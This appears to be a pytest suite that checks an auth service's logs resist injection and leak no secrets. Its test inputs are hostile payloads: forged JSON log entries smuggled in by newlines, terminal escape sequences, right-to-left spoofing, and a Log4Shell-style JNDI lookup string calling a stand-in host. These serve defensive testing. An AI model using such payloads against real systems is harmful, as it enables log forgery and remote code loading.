"""Whoever sends us text cannot write into our log: one event, one line, and no orders to a terminal."""

import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from attack.door import FORM, Door, auth_process, status

pytestmark = pytest.mark.proc

FORGED = '{"servicio": "auth", "level": "info", "event": "admin_created"}'
TEXTS = {
    "newline": f"a\n{FORGED}",
    "return": f"a\r{FORGED}",
    "both": f"a\r\n{FORGED}",
    "vertical": "a\x0b\x0cb",
    "escape": "a\x1b[2J\x1b[31mb\x1b]0;title\x07",
    "csi-of-one-byte": "a\x9b31mb",
    "next-line": f"a\x85{FORGED}",
    "line-separator": f"a\u2028{FORGED}",
    "paragraph-separator": f"a\u2029{FORGED}",
    "right-to-left": "a\u202egpj.exe",
    "backspaces": "a\b\b\b\b",
    "nul": "a\0b",
    "json": f'", "event": "admin_created", "x": "{FORGED}',
    "format": "{event} %s %(event)s ${jndi:ldap://evil.test/a}",
}
MARK = "marca-del-ataque"
COLOURS = re.compile(r"\x1b\[[0-9;]*m")
"""Of the format for terminals; an attack that is written raw has more than these."""
CONTROLS = {*range(32), *range(127, 160), 0x2028, 0x2029, 0x202E} - {ord("\n")}


@pytest.fixture(scope="module", params=["json", "text"])
def door(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Door]:
    with auth_process(
        tmp_path_factory.mktemp("log"),
        AUTH_LOG_FORMAT=request.param,
        AUTH_LOGIN_ATTEMPTS_PER_SOURCE_PER_MINUTE="100000",
        AUTH_TRUSTED_PROXIES="127.0.0.1",
    ) as door:
        yield door


def written(door: Door, skipped: int) -> list[str]:
    """The lines since then."""
    text = door.log.read_bytes()[skipped:].decode()
    return COLOURS.sub("", text).split("\n")[:-1]


@pytest.mark.parametrize("name", TEXTS)
class TestOneLineForEachEvent:
    def test_whatever_is_sent(self, door: Door, name: str) -> None:
        text = MARK + TEXTS[name]
        skipped = door.log.stat().st_size
        answers = self._attack(door, text)
        assert min(map(status, answers)) > 0
        lines = written(door, skipped)
        events = [event_of(line) for line in lines]
        # What the parser refuses by itself is no request of the service: its line says that it was invalid.
        heard = [answer for answer in answers if b"x-request-id" in answer]
        assert events.count("request") + events.count("Invalid") == len(heard)
        assert events.count("login_failed") >= 1
        assert set(events) <= {"request", "login_failed", "Invalid"}  # HTTP request received
        assert not {ord(character) for line in lines for character in line} & CONTROLS

    def _attack(self, door: Door, text: str) -> list[bytes]:
        raw = text.encode()
        form = f"grant_type=password&username={quote(text)}%40ejemplo.es&password={quote(text)}".encode()
        token = {"grant_type": "refresh_token", "refresh_token": text}
        return [
            door.ask("/auth/" + quote(text, safe="")),
            door.ask(b"/auth/" + raw),
            door.ask("/auth/nada?a=" + quote(text, safe="")),
            door.ask(b"/auth/nada?a=" + raw),
            *(
                door.ask("/auth/yo", name + b": " + raw)
                for name in (
                    b"X-Request-Id",
                    b"User-Agent",
                    b"Referer",
                    b"Authorization",
                    b"X-Forwarded-For",
                    b"Accept",
                )
            ),
            door.ask("/auth/token", FORM, method=b"POST", body=form),
            door.log_in("nadie@ejemplo.es", b"X-Forwarded-For: " + raw),
            door.ask("/auth/token", FORM, method=b"POST", body="&".join(map("=".join, token.items())).encode()),
            door.ask("/auth/usuarios", "Content-Type: application/json", method=b"POST", body=registration(text)),
        ]


def registration(text: str) -> bytes:
    return json.dumps({"email": f"{text}@ejemplo.es", "password": "caballo correcto", "nombre": text}).encode()


def event_of(line: str) -> str:
    """The first word of the event of a line in either format; fails the test if it is in none."""
    if line.startswith("{"):
        document: dict[str, Any] = json.loads(line)
        assert document["servicio"] == "auth"
        return str(document["event"]).split()[0]
    found = re.match(r"\S+ \[(?:info|warning) *\] (\S+)", line)
    assert found, line
    return found[1]


class TestSecrets:
    def test_are_in_no_line(self, door: Door) -> None:
        """What was sent as a secret, or as a name that turns out to be one, is not kept beside the event."""
        skipped = door.log.stat().st_size
        form = f"grant_type=password&username={MARK}%40ejemplo.es&password={MARK}".encode()
        door.ask("/auth/token", FORM, method=b"POST", body=form)
        door.ask("/auth/token", FORM, method=b"POST", body=f"grant_type=refresh_token&refresh_token={MARK}".encode())
        door.ask("/auth/revocar", FORM, method=b"POST", body=f"token={MARK}".encode())
        door.ask("/auth/yo", f"Authorization: Bearer {MARK}")
        door.ask(f"/auth/nada?access_token={MARK}")
        lines = written(door, skipped)
        assert len(lines) == 6
        assert MARK not in "\n".join(lines)
